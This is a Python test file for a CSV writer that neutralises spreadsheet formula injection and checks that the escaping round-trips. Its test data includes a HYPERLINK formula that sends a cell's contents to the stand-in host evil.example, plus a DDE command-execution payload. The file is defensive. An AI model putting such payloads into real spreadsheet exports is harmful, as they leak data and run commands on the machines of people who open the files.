"""The one CSV writer: no text cell can start a formula, numbers stay numbers, and the prefix can
be taken off again exactly."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from everyname.core import csvout

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _is_safe(cell: str) -> bool:
    return not cell.startswith(csvout.TRIGGERS)


def test_every_hostile_text_cell_is_written_as_text() -> None:
    out = io.StringIO()
    writer = csvout.writer(out)
    writer.writerow(["name", "n"])
    writer.writerows([[text, 3] for text in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert all(_is_safe(row[0]) for row in rows[1:])
    assert [row[1] for row in rows[1:]] == ["3"] * len(HOSTILE)
    assert [csvout.restore(row[0]) for row in rows[1:]] == HOSTILE


def test_numbers_the_tool_writes_stay_numbers() -> None:
    assert csvout.neutralise(-3) == -3
    assert csvout.neutralise(-0.5) == -0.5
    assert csvout.neutralise(None) is None
    # text that looks like a number is still text, and OWASP asks for every such cell
    assert csvout.neutralise("-3") == "'-3"
    assert csvout.neutralise("Ahmad") == "Ahmad"
    assert csvout.neutralise("'Abd al-Rahman") == "'Abd al-Rahman"  # an apostrophe alone is kept


def test_a_frame_is_written_whole_with_text_neutralised(tmp_path) -> None:  # type: ignore[no-untyped-def]
    frame = pd.DataFrame({"name": HOSTILE, "count": range(-3, -3 + len(HOSTILE))})
    path = csvout.write_frame(frame, tmp_path / "t.csv")
    assert path.read_bytes().startswith("\ufeff".encode())
    back = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert all(_is_safe(cell) for cell in back["name"])
    assert list(back["count"]) == [str(n) for n in frame["count"]]  # "-3" as a number, unquoted
    assert list(csvout.restore_frame(back)["name"]) == HOSTILE
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


@given(st.text())
def test_neutralise_is_safe_and_restore_inverts_it(text: str) -> None:
    written = csvout.neutralise(text)
    assert not written.startswith(csvout.TRIGGERS)
    assert csvout.restore(written) == text
